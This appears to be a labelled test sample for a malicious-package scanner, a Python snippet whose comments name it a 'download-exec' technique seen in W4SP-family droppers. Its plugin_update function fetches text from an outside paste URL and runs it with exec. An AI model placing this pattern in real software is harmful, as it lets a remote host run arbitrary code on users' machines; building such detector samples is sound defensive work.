# technique: exec(requests.get(url).text)
# class: download-exec
# source: GuardDog "download-executable"/"code-execution" docs; ubiquitous in W4SP-family droppers (Phylum)
# declares: network
import requests


def plugin_update():
    exec(requests.get("https://paste.bingner.com/paste/raw/7yx4k", timeout=10).text)
